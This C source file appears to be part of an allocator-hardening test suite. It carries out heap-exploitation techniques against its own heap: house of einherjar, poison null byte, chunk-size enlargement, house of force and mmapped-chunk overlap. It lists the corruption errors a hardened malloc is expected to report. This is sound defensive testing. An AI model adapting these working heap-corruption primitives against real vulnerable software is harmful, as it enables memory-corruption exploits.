/*
 * misuse_overflow.c - a linear overflow into the next chunk's header:
 * the off-by-one NUL byte that clears the neighbour's PREV_INUSE bit (with
 * a fake free chunk in front, house of einherjar), a size enlarged to
 * swallow a live neighbour (thread cache and unsorted bin), a free chunk's
 * size shrunk by a NUL byte (the classic "poison null byte"), the top
 * chunk's size (house of force), and an mmapped chunk's size enlarged over
 * the next mapping.  See misuse.h.
 */
#include "misuse.h"

/* x then y (requests), back to back: returns x, *py = y; a guard follows. */
static void *pair(size_t nx, size_t ny, void **py)
{
    for (int i = 0; i < 64; i++) {
        void *x = malloc(nx), *y = malloc(ny);
        void *g = malloc(0x18);
        if (next_mem(x) == y && next_mem(y) == g) {
            *py = y;
            return x;
        }
    }
    setup_failed("no adjacent pair");
}

/* A (0x118 usable, chunk 0x120) | B (chunk 0x100, size word 0x101).  In A:
 * a fake free chunk F at A's user start whose fd and bk point at itself
 * (that passes the unlink checks: the attacker knows A's address), B's
 * prev_size = distance F..B, then the NUL byte into B's size. */
static void t_null_byte(void *arg)
{
    (void)arg;
    tide_test_no_tcache();
    void *bm;
    word *a = pair(0x118, 0xf8, &bm);
    if (csize(a) != 0x120 || csize(bm) != 0x100)
        setup_failed("unexpected chunk sizes");
    word *f = a;                       /* fake chunk at A's user pointer */
    word fsize = 0x110;
    f[0] = 0;
    f[1] = fsize | 1;
    f[2] = (word)f;
    f[3] = (word)f;
    a[0x110 / 8] = fsize;              /* B's prev_size (A's last word) */
    ((unsigned char *)harness_launder(a))[0x118] = 0;   /* off by one: B's size 0x101 -> 0x100 */
    free(bm);                          /* consolidates backwards into F */
    for (int i = 0; i < 4; i++)
        check_overlap("NUL byte into the next size (einherjar)", malloc(0x200), 0x200, a, 0x118);
}

/* A | B | C of 0x28 (chunks 0x30): B's size := 0x61 (B + C), free(B),
 * malloc(0x58) gives B, which covers live C. */
static void t_enlarge_tcache(void *arg)
{
    (void)arg;
    void *a0, *c;
    void *b = adjacent_triple(0x28, &a0, &c);
    set_size_word(b, 0x60 | 1);        /* overflow from A */
    free(b);
    for (int i = 0; i < 4; i++)
        check_overlap("size enlarged over a live neighbour (cache)", malloc(0x58), 0x58, c, 0x28);
}

/* The same in a medium cache class (0x600-byte requests: 1664-byte
 * chunks, served by the slow paths). */
static void t_enlarge_medium(void *arg)
{
    (void)arg;
    void *a0, *c;
    void *b = adjacent_triple_any(0x600, &a0, &c);
    word s = csize(b) + csize(c);
    set_size_word(b, s | 1);           /* overflow from A */
    free(b);
    for (int i = 0; i < 4; i++)
        check_overlap("size enlarged over a live neighbour (medium cache)", malloc(s - 8), s - 8, c, 0x600);
}

/* The same with the cache off: B := B + C, free(B) goes to the unsorted
 * bin (its "next" is D, in use), malloc of that size. */
static void t_enlarge_unsorted(void *arg)
{
    (void)arg;
    tide_test_no_tcache();
    void *b, *c, *d;
    for (int i = 0;; i++) {
        if (i == 64)
            setup_failed("no four adjacent blocks");
        b = malloc(0x418);
        c = malloc(0x418);
        d = malloc(0x418);
        if (next_mem(b) == c && next_mem(c) == d)
            break;
    }
    word s = csize(b) + csize(c);
    set_size_word(b, s | 1);
    free(b);
    for (int i = 0; i < 4; i++)
        check_overlap("size enlarged over a live neighbour (bins)", malloc(s - 8), s - 8, c, 0x418);
    harness_sink(d);
}

/* Poison null byte: B (0x210) free in the unsorted bin, C after it with
 * prev_size 0x210; a NUL from A shrinks B to 0x200 (the attacker wrote a
 * matching footer at B+0x200 beforehand).  Splitting B never updates
 * C's prev_size; free(b1) then free(C) merges over the live b2. */
static void t_shrink(void *arg)
{
    (void)arg;
    tide_test_no_tcache();
    void *a, *b, *c, *g;
    for (int i = 0;; i++) {
        if (i == 64)
            setup_failed("no adjacent A|B|C");
        a = malloc(0x18);
        b = malloc(0x208);
        c = malloc(0xf8);
        g = malloc(0x18);
        if (next_mem(a) == b && next_mem(b) == c && next_mem(c) == g)
            break;
    }
    if (csize(b) != 0x210)
        setup_failed("unexpected chunk size");
    W(b)[0x1f0 / 8] = 0x200;           /* fake prev_size where B will end, */
    W(b)[0x1f8 / 8] = 0x10;            /* and a plausible next size (P clear) */
    free(b);
    ((unsigned char *)harness_launder(a))[0x18] = 0;    /* off by one: 0x211 -> 0x200 */
    void *b1 = malloc(0xf8);
    void *b2 = malloc(0x80);
    free(b1);
    free(c);                           /* C's prev_size still says 0x210 */
    for (int i = 0; i < 4; i++)
        check_overlap("free chunk shrunk by a NUL byte", malloc(0x300), 0x300, b2, 0x80);
    harness_sink(g);
}

/* House of force: top's size := huge, malloc(distance), malloc -> target. */
static void t_top(void *arg)
{
    (void)arg;
    void *p = malloc(0x2000);
    void *top = next_mem(p);
    struct mallinfo2 mi = mallinfo2();
    if (csize(top) != mi.keepcost)
        setup_failed("block not just below top");
    char *target = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (target == MAP_FAILED || target < (char *)top)
        setup_failed("no target above top");
    set_size_word(top, SZ_MASK | 1);   /* overflow from p */
    size_t dist = (size_t)(target - 16 - ((char *)top - 16));
    void *big = malloc(dist - 8);
    void *m = malloc(0x20);
    check_target("top size overwritten (house of force)", m, target, 4096);
    harness_sink(big);
}

/* Two mmapped chunks back to back (q right below p): q's size := q + p,
 * free(q) unmaps p too; a bigger malloc then lands on live p. */
static void t_mmapped(void *arg)
{
    (void)arg;
    mallopt(M_MMAP_THRESHOLD, 64 * 1024);
    /* Mappings are usually placed right below each other, but another
     * thread's mmap (a sanitizer's, say) may come in between: take up to
     * eight and use the first adjacent pair.                          */
    char *blk[8], *p = NULL, *q = NULL;
    for (int n = 0; n < 8 && !p; n++) {
        blk[n] = malloc(256 * 1024);
        if (!blk[n] || !(cflags(blk[n]) & 2))
            setup_failed("blocks not mmapped");
        for (int k = 0; k < n && !p; k++) {
            for (int swap = 0; swap < 2 && !p; swap++) {
                char *lo = swap ? blk[k] : blk[n], *hi = swap ? blk[n] : blk[k];
                if (lo - 16 + csize(lo) == hi - 16) {
                    q = lo;
                    p = hi;
                }
            }
        }
    }
    if (!p)
        setup_failed("mappings not adjacent");
    memset(p, 'P', 256 * 1024);
    word total = csize(q) + csize(p);
    set_size_word(q, total | 2);
    free(q);
    for (int i = 0; i < 3; i++)
        check_overlap("mmapped size enlarged", malloc(total - 64), total - 64, p, 256 * 1024);
    /* Even without a new block there: live p is gone. */
    int fd[2];
    if (pipe(fd) == 0 && write(fd[1], p, 1) < 0)
        exploited("mmapped size enlarged: the live block %p was unmapped", (void *)p);
}

static const struct technique tab[] = {
    { "null_byte_prev_inuse", t_null_byte, "cache off: NUL byte clears B's P bit, fake free chunk in A, free(B)",
      { "free(): corrupted chunk header", "corrupted size vs. prev_size", "corrupted double-linked list",
        "malloc(): corrupted chunk header" }, 0 },
    { "enlarge_tcache", t_enlarge_tcache, "B's size := B+C (live C), free(B), malloc(that size)",
      { "free(): corrupted chunk header" }, 0 },
    { "enlarge_medium", t_enlarge_medium, "the same with 0x600-byte requests (medium cache class)",
      { "free(): corrupted chunk header" }, 0 },
    { "enlarge_unsorted", t_enlarge_unsorted, "cache off: the same with 0x420-byte chunks (unsorted bin)",
      { "free(): corrupted chunk header" }, 0 },
    { "shrink_free_chunk", t_shrink, "cache off: NUL byte shrinks free B 0x210->0x200 (poison null byte)",
      { "malloc(): corrupted chunk header", "corrupted size vs. prev_size", "free(): corrupted chunk header" }, 0 },
    { "top_size", t_top, "top's size := huge, malloc(distance to a target), malloc",
      { "malloc(): corrupted top size", "malloc(): corrupted chunk header" }, 0 },
    { "mmapped_size", t_mmapped, "mmapped q's size := q + next mapping p (live), free(q)",
      { "munmap_chunk(): invalid pointer", "free(): corrupted chunk header" }, 0 },
};

MISUSE_MAIN("overflow", tab)
